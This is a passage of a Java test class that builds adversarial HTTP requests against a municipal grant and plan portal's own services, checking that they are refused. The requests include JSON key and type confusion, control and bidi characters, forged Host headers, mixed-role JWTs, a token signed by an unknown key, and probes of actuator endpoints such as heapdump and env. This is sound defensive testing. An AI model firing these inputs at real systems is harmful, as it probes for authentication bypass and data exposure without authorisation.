            add("date in every field", "POST", grant(), year + "/decision", APPROVER,
                    "{\"decisionDate\":" + quoted + ",\"amountYen\":1000000}");
            add("date in every field", "POST", grant(), year + "/decision", APPROVER,
                    "{\"amountYen\":1000000,\"reportDueDate\":" + quoted + "}");
            add("date in every field", "POST", grant(), year + "/change", APPROVER, "{\"changeDate\":" + quoted
                    + ",\"eligibleCostYen\":2000000,\"requestedAmountYen\":1000000,\"amountYen\":1000000,"
                    + "\"reason\":\"変更\"}");
            add("date in every field", "POST", grant(), year + "/report", officerA(), "{\"reportDate\":" + quoted
                    + ",\"actualCostYen\":1,\"eligibleActualCostYen\":1,\"otherRevenueYen\":0}");
            add("date in every field", "POST", grant(), year + "/confirmation", APPROVER,
                    "{\"confirmationDate\":" + quoted + "}");
            keyed("date in every field", grant(), year + "/payments", APPROVER,
                    "{\"paymentDate\":" + quoted + ",\"amountYen\":1000}", "e2e-date-payment-" + date);
            keyed("date in every field", grant(), year + "/refund", APPROVER,
                    "{\"refundDate\":" + quoted + ",\"amountYen\":1000}", "e2e-date-refund-" + date);
            add("date in every field", "POST", approval(), "/api/approval-rounds", APPROVER,
                    "{\"announcementDate\":" + quoted + ",\"reviewIds\":[\"" + t.reviewA() + "\"]}");
            add("date in every field", "POST", grant(), "/api/budget-resolutions/corrections", ADMIN,
                    "{\"fiscalYear\":2041,\"assembly\":\"METROPOLITAN\",\"resolutionDate\":" + quoted
                            + ",\"reason\":\"訂正\"}");
        }
    }

    /**
     * 24: a client retrying. Payments and refunds without a key (428) or with an unusable one (400); the same key
     * sent twice or with another body to steps that are refused (each refusal answered again, nothing paid or
     * numbered twice); a refusal under a key replayed as the same problem; a key reused for another body (422).
     */
    private void retriesWithAndWithoutIdempotencyKeys() {
        String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
        String payment = "{\"amountYen\":1000}";
        for (String step : List.of("/payments", "/refund")) {
            add("retry and idempotency key", "POST", grant(), year + step, APPROVER, payment);
            keyed("retry and idempotency key", grant(), year + step, APPROVER, payment, "");
            keyed("retry and idempotency key", grant(), year + step, APPROVER, payment, "k".repeat(256));
            keyed("retry and idempotency key", grant(), year + step, APPROVER, payment, "a key");
            for (int retry = 0; retry < 2; retry++) {
                keyed("retry and idempotency key", grant(), year + step, APPROVER, payment, "e2e-retry" + step);
            }
            keyed("retry and idempotency key", grant(), year + step, APPROVER, "{\"amountYen\":2000}",
                    "e2e-retry" + step);
        }
        for (int retry = 0; retry < 2; retry++) {
            keyed("retry and idempotency key", grant(), year + "/decision", APPROVER, "{\"amountYen\":1000000}",
                    "e2e-retry-decision");
            keyed("retry and idempotency key", approval(), "/api/approval-rounds/no-such-round/publish", APPROVER,
                    null, "e2e-retry-publish");
            keyed("retry and idempotency key", notification(), "/api/notifications/no-such-notice/resend", ADMIN,
                    null, "e2e-retry-resend");
            keyed("retry and idempotency key", approval(), "/api/reviews/" + t.reviewA() + "/approve", APPROVER,
                    null, "e2e-retry-approve");
        }
        // refused as invalid (400, kept), then the same key with another body: 422
        keyed("retry and idempotency key", plan(), "/api/plans", officerA(), planBody(t.codeA(),
                "\"startFiscalYear\":\"二〇一四\""), "e2e-retry-plan");
        keyed("retry and idempotency key", plan(), "/api/plans", officerA(), planBody(t.codeA(),
                "\"startFiscalYear\":true"), "e2e-retry-plan");
    }

    /** A request with an {@code Idempotency-Key} header ({@code json} null for no body). */
    private void keyed(String category, URI service, String path, Actor actor, String json, String key) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Authorization", bearer.apply(actor));
        if (json != null) {
            headers.put("Content-Type", "application/json");
        }
        headers.put("Idempotency-Key", key);
        requests.add(new Hostile(category, "POST", service, path, headers,
                json == null ? null : json.getBytes(StandardCharsets.UTF_8)));
    }

    /**
     * 36: numbers that are not JSON integers or are strings, strings that are numbers or booleans, keys given twice
     * (issue 14 item 7): never cut, coerced or last-one-wins.
     */
    private void coercedValuesAndDuplicateKeys() {
        String category = "coerced value or duplicate key";
        for (String field : List.of("\"startFiscalYear\":\"2050\"", "\"startFiscalYear\":2050.0", "\"title\":12",
                "\"title\":true", "\"summary\":1.5", "\"municipalityCode\":" + t.codeA(),
                "\"measures\":[{\"title\":\"企業立地の促進\",\"projects\":[{\"name\":\"立地奨励金の交付\",\"plannedCosts\":"
                        + "[{\"fiscalYear\":2050,\"amountYen\":19999999.99}]}]}]",
                "\"measures\":[{\"title\":\"企業立地の促進\",\"projects\":[{\"name\":\"立地奨励金の交付\",\"plannedCosts\":"
                        + "[{\"fiscalYear\":\"2050\",\"amountYen\":\"1000000\"}]}]}]")) {
            add(category, "POST", plan(), "/api/plans", officerA(), planBody(t.codeA(), field));
        }
        for (String field : List.of("\"budgetedAmountYen\":19999999.99", "\"budgetedAmountYen\":1.7",
                "\"budgetedAmountYen\":\"1000000\"", "\"fiscalYear\":\"2050\"", "\"fiscalYear\":2050.0",
                "\"assembly\":1", "\"budgetedAmountYen\":true")) {
            add(category, "POST", grant(), "/api/budget-resolutions", APPROVER, budgetWith(field));
        }
        add(category, "POST", grant(), "/api/budget-resolutions", APPROVER,
                budget("MUNICIPAL", null).replace("}", ",\"municipalityCode\":" + t.codeA() + "}"));
        String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
        for (String body : List.of(
                "{\"eligibleCostYen\":2000000.5,\"requestedAmountYen\":1000000,\"breakdown\":[{\"measureNumber\":1,"
                        + "\"projectName\":\"x\",\"eligibleCostYen\":2000000}]}",
                "{\"eligibleCostYen\":2000000,\"requestedAmountYen\":\"1000000\",\"breakdown\":[{\"measureNumber\":1,"
                        + "\"projectName\":\"x\",\"eligibleCostYen\":2000000}]}",
                "{\"eligibleCostYen\":2000000,\"requestedAmountYen\":1000000,\"breakdown\":[{\"measureNumber\":\"1\","
                        + "\"projectName\":12,\"eligibleCostYen\":2000000}]}")) {
            add(category, "POST", grant(), year + "/application", officerA(), body);
        }
        add(category, "POST", grant(), year + "/payments", APPROVER, "{\"amountYen\":1000.5}");
        add(category, "POST", grant(), year + "/payments", APPROVER, "{\"amountYen\":\"1000\"}");
        add(category, "POST", approval(), "/api/reviews/" + t.reviewA() + "/comments", REVIEWER, "{\"text\":12}");
        add(category, "POST", approval(), "/api/reviews/" + t.reviewA() + "/return", REVIEWER, "{\"reasons\":[12]}");
        add(category, "PUT", notification(), "/api/recipients/" + t.codeA(), ADMIN, "{\"addresses\":[true]}");
        // the same key twice, once with the same value and once with another
        String plan = planBody(t.codeA(), "");
        add(category, "POST", plan(), "/api/plans", officerA(), withField(plan, "\"municipalityCode\":\"" + t.codeA() + "\""));
        add(category, "POST", plan(), "/api/plans", officerA(), withField(plan, "\"startFiscalYear\":2051"));
        add(category, "POST", plan(), "/api/plans", officerA(), plan.replace("\"email\":\"e2e@example.jp\"",
                "\"email\":\"e2e@example.jp\",\"email\":\"intruder@example.jp\""));
        add(category, "POST", grant(), "/api/budget-resolutions", APPROVER,
                withField(budget("METROPOLITAN", null), "\"budgetedAmountYen\":1"));
        add(category, "POST", grant(), year + "/application", officerA(),
                withField(application(""), "\"requestedAmountYen\":1"));
        add(category, "POST", approval(), "/api/reviews/" + t.reviewA() + "/comments", REVIEWER,
                "{\"text\":\"確認\",\"text\":\"確認済み\"}");
        add(category, "PUT", notification(), "/api/recipients/" + t.codeA(), ADMIN, "{\"addresses\":[\""
                + PlanWave.mailboxOf(t.codeA()) + "\"],\"addresses\":[\"intruder@example.jp\"]}");
        add(category, "POST", approval(), "/api/approval-rounds", APPROVER, "{\"announcementDate\":\"2041-03-13\","
                + "\"announcementDate\":\"2041-03-14\",\"reviewIds\":[\"" + t.reviewA() + "\"]}");
        add(category, "POST", plan(), "/api/plans/" + t.planA() + "/withdraw", officerA(),
                "{\"reason\":\"取下げ\",\"reason\":\"別の理由\"}");
        add(category, "POST", plan(), "/api/plans", officerA(), plan + plan);
    }

    /** Characters no single-line field takes: controls (C0, C1, CSI), separators, bidi, zero-width, a lone surrogate. */
    static final List<String> NOT_IN_A_LINE = List.of("\u0000", "\u001b[31m", "\n", "\t", "\u0085", "\u009b[2J",
            "\u2028", "\u202e", "\u200b", "\ud800");
    /** Characters no multi-line field takes (line breaks and tabs it does). */
    static final List<String> NOT_IN_A_TEXT = List.of("\u0000", "\u001b[2J", "\r", "\u0085", "\u2029", "\u202e",
            "\u200b", "\udc00");

    /** About 220: every text field of every request with each character its kind of field refuses (item 12). */
    private void controlCharacters() {
        String category = "control character";
        for (String field : List.of("title", "targetArea", "measureTitle", "projectName", "department", "person", "email",
                "phone")) {
            for (String c : NOT_IN_A_LINE) {
                add(category, "POST", plan(), "/api/plans", officerA(), planWithText(field, "品川" + c + "区"));
            }
        }
        for (String field : List.of("summary", "description", "figure")) {
            for (String c : NOT_IN_A_TEXT) {
                add(category, "POST", plan(), "/api/plans", officerA(), planWithText(field, "一行目\n二行目" + c));
            }
        }
        add(category, "POST", plan(), "/api/plans", officerA(), planWithText("title", "\u200b\u200b\u3000"));
        add(category, "POST", plan(), "/api/plans", officerA(), planWithText("summary",
                "本区の計画。\n問い合わせ先\n 電話 03-0000-0000"));
        String review = "/api/reviews/" + t.reviewA();
        String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
        for (String c : NOT_IN_A_TEXT) {
            String text = jsonString("理由" + c);
            add(category, "POST", plan(), "/api/plans/" + t.planA() + "/withdraw", officerA(), "{\"reason\":" + text + "}");
            add(category, "POST", approval(), review + "/comments", REVIEWER, "{\"text\":" + text + "}");
            add(category, "POST", approval(), review + "/return", REVIEWER, "{\"reasons\":[\"不備\"," + text + "]}");
            add(category, "POST", approval(), review + "/reject", APPROVER, "{\"reasons\":[" + text + "]}");
            add(category, "POST", approval(), review + "/recommend", REVIEWER, "{\"note\":" + text + "}");
            add(category, "POST", grant(), year + "/decision", APPROVER, "{\"amountYen\":1000,\"conditions\":["
                    + text + "]}");
            add(category, "POST", grant(), year + "/change", APPROVER, "{\"eligibleCostYen\":2,\"requestedAmountYen\":1,"
                    + "\"amountYen\":1,\"reason\":" + text + "}");
            add(category, "POST", grant(), year + "/report/correction", ADMIN, "{\"reportDate\":\"2014-04-30\","
                    + "\"actualCostYen\":1,\"eligibleActualCostYen\":1,\"otherRevenueYen\":0,\"reason\":" + text + "}");
            add(category, "POST", grant(), "/api/budget-resolutions/corrections", ADMIN, "{\"fiscalYear\":2041,"
                    + "\"assembly\":\"METROPOLITAN\",\"withdraw\":true,\"reason\":" + text + "}");
        }
        for (String c : NOT_IN_A_LINE) {
            String line = jsonString("x" + c);
            add(category, "POST", approval(), "/api/approval-rounds", APPROVER,
                    "{\"announcementDate\":\"2041-03-13\",\"reviewIds\":[" + jsonString(t.reviewA() + c) + "]}");
            add(category, "POST", grant(), year + "/application", officerA(), "{\"eligibleCostYen\":2000000,"
                    + "\"requestedAmountYen\":1000000,\"breakdown\":[{\"measureNumber\":1,\"projectName\":" + line
                    + ",\"eligibleCostYen\":2000000}]}");
            add(category, "POST", grant(), "/api/budget-resolutions", APPROVER,
                    budget("MUNICIPAL", t.codeA() + c));
            add(category, "PUT", notification(), "/api/recipients/" + t.codeA(), ADMIN,
                    "{\"addresses\":[" + jsonString(PlanWave.mailboxOf(t.codeA()) + c) + "]}");
            add(category, "POST", approval(), review + "/reviewer", ADMIN, "{\"reviewer\":" + line + "}");
        }
        add(category, "POST", approval(), review + "/comments", REVIEWER, "{\"text\":\"\\u200b\\u200b\"}");
    }

    /** 12: on each of the six paged lists, a page whose items an int cannot count (item 9). */
    private void pagingOverflow() {
        String category = "paging overflow";
        Map<URI, List<Object[]>> lists = new LinkedHashMap<>();
        lists.put(plan(), List.<Object[]>of(new Object[] {"/api/plans", officerA()}));
        lists.put(approval(), List.of(new Object[] {"/api/reviews", REVIEWER},
                new Object[] {"/api/approval-rounds", APPROVER}));
        lists.put(grant(), List.<Object[]>of(new Object[] {"/api/grants", APPROVER}));
        lists.put(notification(), List.of(new Object[] {"/api/notifications", ADMIN},
                new Object[] {"/api/press-releases", null}));
        lists.forEach((service, paths) -> paths.forEach(list -> {
            for (String query : List.of("page=21474837&size=100", "page=2147483647&size=2")) {
                add(category, "GET", service, list[0] + "?" + query, (Actor) list[1], null);
            }
        }));
    }

    /** 24: tokens that make one person both a municipality's officer and Tokyo's staff (item 3). */
    private void roleMixes() {
        String category = "role mix";
        for (List<String> roles : List.of(List.of("MUNICIPALITY", "REVIEWER"), List.of("MUNICIPALITY", "APPROVER"),
                List.of("MUNICIPALITY", "ADMIN"), List.of("MUNICIPALITY", "REVIEWER", "APPROVER", "ADMIN"))) {
            Actor mixed = new Actor("e2e-mixed-" + String.join("-", roles).toLowerCase(), roles, t.codeA());
            add(category, "GET", plan(), "/api/plans", mixed, null);
            add(category, "POST", plan(), "/api/plans", mixed, planBody(t.codeA(), ""));
            add(category, "GET", approval(), "/api/reviews", mixed, null);
            add(category, "POST", approval(), "/api/reviews/" + t.reviewA() + "/approve", mixed, null);
            add(category, "GET", grant(), "/api/grants", mixed, null);
            add(category, "GET", notification(), "/api/notifications", mixed, null);
        }
    }

    /** 32: tokens signed with the trusted key but without a role, for another audience, from another issuer (item 11). */
    private void tokenClaims() {
        String category = "token claims";
        String issuer = endpoints.tokenIssuer().toString();
        List<JWTClaimsSet> claims = List.of(
                claims("e2e-no-role", issuer, AUDIENCE).claim("roles", List.of()).claim("municipality_code", t.codeA())
                        .build(),
                claims("e2e-no-role-claim", issuer, AUDIENCE).claim("municipality_code", t.codeA()).build(),
                claims("e2e-roles-not-a-list", issuer, AUDIENCE).claim("roles", "ADMIN").build(),
                claims("e2e-municipality-without-code", issuer, AUDIENCE).claim("roles", List.of("MUNICIPALITY")).build(),
                claims("e2e-other-audience", issuer, "another-system").claim("roles", List.of("ADMIN")).build(),
                claims("e2e-no-audience", issuer, null).claim("roles", List.of("ADMIN")).build(),
                claims("e2e-other-issuer", "https://elsewhere.example", AUDIENCE).claim("roles", List.of("ADMIN")).build(),
                claims("e2e-no-issuer", null, AUDIENCE).claim("roles", List.of("ADMIN")).build());
        for (JWTClaimsSet token : claims) {
            Map<String, String> headers = Map.of("Authorization", trusted.apply(token));
            raw(category, "GET", plan(), "/api/plans", headers, null);
            raw(category, "GET", approval(), "/api/reviews", headers, null);
            raw(category, "GET", grant(), "/api/grants", headers, null);
            raw(category, "GET", notification(), "/api/notifications", headers, null);
        }
    }

    private static JWTClaimsSet.Builder claims(String subject, String issuer, String audience) {
        JWTClaimsSet.Builder claims = new JWTClaimsSet.Builder().subject(subject).issueTime(new Date())
                .expirationTime(Date.from(Instant.now().plusSeconds(3600)));
        if (issuer != null) {
            claims.issuer(issuer);
        }
        if (audience != null) {
            claims.audience(audience);
        }
        return claims;
    }

    /** 12: a Host (and X-Forwarded-Host) of the attacker's choosing on requests that are refused (item 13). */
    private void forgedHost() {
        String category = "forged Host";
        for (URI service : List.of(plan(), approval(), grant(), notification())) {
            raw(category, "GET", service, "/api/no-such-thing", Map.of("Host", FORGED_HOST), null);
            raw(category, "POST", service, "/api/plans", Map.of("Host", FORGED_HOST, "X-Forwarded-Host", FORGED_HOST,
                    "Content-Type", "application/json"), "{}".getBytes(StandardCharsets.UTF_8));
        }
        Map<String, String> officer = Map.of("Host", FORGED_HOST, "X-Forwarded-Host", FORGED_HOST,
                "X-Forwarded-Proto", "https", "Authorization", bearer.apply(officerA()), "Content-Type", "application/json");
        raw(category, "POST", plan(), "/api/plans", officer, planWithText("title", "x\u0000").getBytes(StandardCharsets.UTF_8));
        raw(category, "GET", plan(), "/api/plans/no-such-plan", officer, null);
        Map<String, String> approver = Map.of("Host", FORGED_HOST, "Authorization", bearer.apply(APPROVER),
                "Content-Type", "application/json");
        raw(category, "POST", approval(), "/api/approval-rounds", approver, "{\"reviewIds\":[]}".getBytes(StandardCharsets.UTF_8));
        raw(category, "POST", grant(), "/api/budget-resolutions", approver, "{}".getBytes(StandardCharsets.UTF_8));
    }

    /** 16: what Tomcat refuses before any servlet runs: TRACE, an encoded slash or NUL, a header too large (item 14). */
    private void containerRefusals() {
        String category = "refused by Tomcat";
        for (URI service : List.of(plan(), approval(), grant(), notification())) {
            raw(category, "TRACE", service, "/api/plans", Map.of(), null);
            raw(category, "GET", service, "/api/plans/a%2Fb", Map.of("Authorization", bearer.apply(ADMIN)), null);
            raw(category, "GET", service, "/api/plans/a%00b", Map.of("Authorization", bearer.apply(ADMIN)), null);
            raw(category, "GET", service, "/api/plans", Map.of("X-Padding", "a".repeat(10_000)), null);
        }
    }

    /** 16: health, metrics and the endpoints never exposed, asked for on the portals' ports (item 10). */
    private void managementOnThePortalsPorts() {
        String category = "management on the portal port";
        for (URI service : List.of(plan(), approval(), grant(), notification())) {
            for (String path : List.of("/actuator/prometheus", "/actuator/health", "/actuator/env", "/actuator/heapdump")) {
                add(category, "GET", service, path, null, null);
            }
        }
    }

    /** A plan whose text field {@code which} is {@code value}; everything else valid. */
    private String planWithText(String which, String value) {
        Map<String, String> text = new LinkedHashMap<>(Map.of("title", "敵対的リクエスト試験計画", "targetArea", "区内全域",
                "summary", "試験", "measureTitle", "企業立地の促進", "projectName", "立地奨励金の交付", "description", "説明",
                "figure", "図", "department", "産業振興課", "person", "担当", "email", "e2e@example.jp"));
        text.put("phone", "03-5320-4748");
        text.put(which, value);
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("municipalityCode", jsonString(t.codeA()));
        fields.put("title", jsonString(text.get("title")));
        fields.put("targetArea", jsonString(text.get("targetArea")));
        fields.put("startFiscalYear", "2050");
        fields.put("endFiscalYear", "2052");
        fields.put("summary", jsonString(text.get("summary")));
        fields.put("measures", "[{\"title\":" + jsonString(text.get("measureTitle")) + ",\"projects\":[{\"name\":"
                + jsonString(text.get("projectName")) + ",\"description\":" + jsonString(text.get("description"))
                + ",\"plannedCosts\":[{\"fiscalYear\":2050,\"amountYen\":1000000},{\"fiscalYear\":2051,"
                + "\"amountYen\":1000000},{\"fiscalYear\":2052,\"amountYen\":1000000}]}]}]");
        fields.put("figures", "[" + jsonString(text.get("figure")) + "]");
        fields.put("contact", "{\"department\":" + jsonString(text.get("department")) + ",\"person\":"
                + jsonString(text.get("person")) + ",\"email\":" + jsonString(text.get("email")) + ",\"phone\":"
                + jsonString(text.get("phone")) + "}");
        return merge(fields, "");
    }

    /** A whole plan of the wave's kind for {@code code}; {@code extra} replaces or adds one field. */
    private String planBody(String code, String extra) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("municipalityCode", jsonString(code));
        fields.put("title", jsonString("敵対的リクエスト試験計画"));
        fields.put("startFiscalYear", "2050");
        fields.put("endFiscalYear", "2052");
        fields.put("summary", jsonString("試験"));
        fields.put("measures", "[{\"title\":\"企業立地の促進\",\"projects\":[{\"name\":\"立地奨励金の交付\",\"plannedCosts\":"
                + "[{\"fiscalYear\":2050,\"amountYen\":1000000},{\"fiscalYear\":2051,\"amountYen\":1000000},"
                + "{\"fiscalYear\":2052,\"amountYen\":1000000}]}]}]");
        fields.put("figures", "[]");
        fields.put("contact", "{\"department\":\"産業振興課\",\"person\":\"担当\",\"email\":\"e2e@example.jp\","
                + "\"phone\":\"03-5320-4748\"}");
        return merge(fields, extra);
    }

    private String budget(String assembly, String code) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("fiscalYear", "2050");
        fields.put("assembly", jsonString(assembly));
        if (code != null) {
            fields.put("municipalityCode", jsonString(code));
        }
        fields.put("resolutionDate", "\"2050-03-20\"");
        fields.put("budgetedAmountYen", "1000000");
        return merge(fields, "");
    }

    /** A Metropolitan budget resolution for 2050 with one field replaced: never a valid one. */
    private String budgetWith(String field) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("fiscalYear", "2050");
        fields.put("assembly", "\"METROPOLITAN\"");
        fields.put("resolutionDate", "\"2050-03-20\"");
        fields.put("budgetedAmountYen", "1000000");
        return merge(fields, field);
    }

    /** The JSON object with one more field at its end. */
    private static String withField(String json, String field) {
        return json.substring(0, json.length() - 1) + "," + field + "}";
    }

    private static String application(String extra) {
        return "{\"applicationDate\":\"2040-04-10\",\"eligibleCostYen\":2000000,\"requestedAmountYen\":1000000,"
                + "\"breakdown\":[{\"measureNumber\":1,\"projectName\":\"立地奨励金の交付\",\"eligibleCostYen\":2000000}]"
                + extra + "}";
    }

    /** The fields as a JSON object, {@code extra} ({@code "name":value}) replacing a field of that name or added. */
    private static String merge(Map<String, String> fields, String extra) {
        Map<String, String> all = new LinkedHashMap<>(fields);
        String trailer = "";
        if (!extra.isEmpty()) {
            String name = extra.substring(1, extra.indexOf('"', 1));
            if (all.containsKey(name)) {
                all.put(name, extra.substring(extra.indexOf(':') + 1));
            } else {
                trailer = "," + extra;
            }
        }
        StringBuilder json = new StringBuilder("{");
        all.forEach((name, value) -> json.append(json.length() > 1 ? "," : "").append('"').append(name).append("\":")
                .append(value));
        return json.append(trailer).append('}').toString();
    }

    private URI service(String name) {
        return switch (name) {
            case "plan" -> plan();
            case "approval" -> approval();
            case "grant" -> grant();
            default -> notification();
        };
    }

    private static String jsonString(String value) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : value.toCharArray()) {
            switch (c) {
                case '"' -> json.append("\\\"");
                case '\\' -> json.append("\\\\");
                default -> {
                    if (c < 0x20 || Character.isSurrogate(c)) {
                        json.append("\\u%04x".formatted((int) c));
                    } else {
                        json.append(c);
                    }
                }
            }
        }
        return json.append('"').toString();
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String base64(String json) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(json.getBytes(StandardCharsets.UTF_8));
    }

    /** A well-formed RS256 token with every role, signed by a key the services have never seen. */
    private static String signedByStranger() {
        try {
            RSAKey key = new RSAKeyGenerator(2048).keyID("stranger").generate();
            JWTClaimsSet claims = new JWTClaimsSet.Builder().subject("intruder").issuer("http://localhost:8090")
                    .claim("roles", List.of("ADMIN", "APPROVER", "REVIEWER")).issueTime(new Date())
                    .expirationTime(Date.from(Instant.now().plusSeconds(3600))).build();
            SignedJWT jwt = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.RS256).keyID("stranger").build(), claims);
            jwt.sign(new RSASSASigner(key));
            return jwt.serialize();
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }
}
